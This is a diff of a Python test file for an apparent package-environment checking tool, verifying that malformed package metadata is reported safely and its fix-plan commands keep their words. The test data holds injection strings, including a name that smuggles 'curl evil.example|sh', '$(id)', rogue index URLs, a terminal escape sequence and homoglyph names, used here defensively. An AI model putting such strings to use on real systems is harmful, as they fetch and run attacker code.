@@ -47,8 +47,7 @@ def test_a_command_is_read_back_as_its_words(prefix, name, place):
     for action, extra in words:
         line = wording.command_of(action)
         if extra == "#":
-            line, _, note = line.rpartition("  # ")
-            assert "\n" not in note
+            line = line.removesuffix(f"  # {wording.one_line(place)}")
         expected = list(action.words)
         if extra == "|":
             expected += ["|", "head", place, ">", prefix, "&&", "mv", place, name]
@@ -67,8 +66,8 @@ def test_a_home_is_told_without_its_owner_and_still_found(monkeypatch):
     [
         ("trl", INJECTED), ("trl';curl evil.example|sh;'", "1.16.0"), ("trl", "1.0 --index-url http://evil"),
         ("--index-url=http://evil", "1.0"), ("-r", "1.0"), ("trl @ http://evil/x.whl", "1.0"), ("trl", "$(id)"),
-        ("trl", "1.0\x1b]52;c;aGk=\x07"), ("trl", "9" * 300), ("tr\u202el", "1.0"), ("trl", "*"), ("трл", "1.0"),
-        ("trl", "١.٠"),
+        ("trl", "1.0\x1b]52;c;aGk=\x07"), ("trl", "9" * 300), ("tr\u202el", "1.0"), ("trl", "*"), ("tr\u043b", "1.0"),
+        ("trl", "\u0661.\u0660"),
     ],
 )  # fmt: skip
 def test_what_is_no_name_or_version_is_broken_metadata(environment, capsys, name, version):
@@ -81,7 +80,7 @@ def test_what_is_no_name_or_version_is_broken_metadata(environment, capsys, name
         told = printed(form, environment.prefix, capsys=capsys)
         assert "ENV901" in told
         assert "evil" not in told
-        assert "id)" not in told
+        assert "$(id)" not in told
     for form in ("terminal", "json", "markdown"):
         told = printed(form, environment.prefix, "--fix-plan", capsys=capsys)
         assert "trl-1.16.0.dist-info" in told
@@ -159,7 +158,7 @@ def test_commands_of_doctor_and_plan_keep_their_words(environment, capsys, folde
         shlex.split(line.partition("$ ")[2]) for line in told.splitlines() if line.startswith("        $ ")
     ]
     place = facts.collect(prefix, {}).broken[0]
-    assert ["rm", "-r", door.line(place)] in shown
+    assert ["rm", "-r", door.line(place).replace("\t", r"\u0009")] in shown
     plan = json.loads(printed("json", prefix, "--fix-plan", capsys=capsys))
     for step in plan["steps"]:
         for line in step["commands"]:
